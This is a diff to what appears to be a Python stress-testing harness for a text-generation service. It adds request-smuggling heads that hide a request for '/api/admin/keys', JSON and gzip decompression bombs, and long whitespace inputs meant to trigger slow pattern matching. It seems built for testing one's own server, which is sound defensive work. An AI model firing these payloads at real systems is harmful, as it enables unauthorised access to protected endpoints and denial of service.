@@ -152,12 +152,50 @@ async def chunk_extensions(target: Target) -> None:
             await writer.drain()
 
 
+async def smuggling(target: Target) -> None:
+    """Heads that two readers may read differently, each with another request hidden behind its end."""
+    for ambiguous in (
+        "Content-Length: 44\r\nTransfer-Encoding: chunked",
+        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
+        "Transfer-Encoding : chunked",
+        "Content-Length: 44\r\nContent-Length: 0",
+        "X: a\nContent-Length: 44",
+        "Host: other",
+    ):
+        head = target.post("generate", 0).replace(b"Content-Length: 0", ambiguous.encode())
+        await send(target, head + b"0\r\n\r\nGET /api/admin/keys HTTP/1.1\r\nHost: pb\r\n\r\n")
+
+
+async def bombs(target: Target) -> None:
+    """JSON that is small and would be much: depth, digits, escapes, strings; and what would have to be unpacked."""
+    for body in (
+        b'{"x": ' + b"[" * 49_000,
+        b'{"x": ' + b'{"a":' * 1_000_000,
+        b'{"x": ' + b"9" * 5_000_000 + b"}",
+        b'{"source_context": "' + b"\\u0061" * 3_000_000 + b'"}',
+        b'"' * 8_000_000,
+    ):
+        await send(target, target.post("generate", len(body)) + body)
+    packed = target.post("generate", 4).replace(b"Content-Type", b"Content-Encoding: gzip\r\nContent-Type")
+    await send(target, packed + b"\x1f\x8b\x08\x00")
+
+
+async def blanks(target: Target) -> None:
+    """Texts of blanks, for patterns that look at each of them again and again."""
+    for text in (f"a{' ' * 19_900}->", f"a{' ' * 19_900}b -> c", f"a{chr(9) * 500_000}graph"):
+        body = json.dumps({"caption": "a", "source_context": text, "pages": 1}).encode()
+        await send(target, target.post("generate", len(body)) + body)
+
+
 ATTACKS: dict[str, tuple[Callable[[Target], Awaitable[None]], int]] = {
     "endless_header": (endless_header, 4),
     "chunk_extensions": (chunk_extensions, 4),
     "slow_head": (slow_head, 10_000),
     "slow_body": (slow_body, 500),
     "pipelined": (pipelined, 20),
+    "smuggling": (smuggling, 20),
+    "bombs": (bombs, 8),
+    "blanks": (blanks, 8),
     "keys": (keys, 8),
     "rows": (rows, 4),
     "tables": (tables, 8),
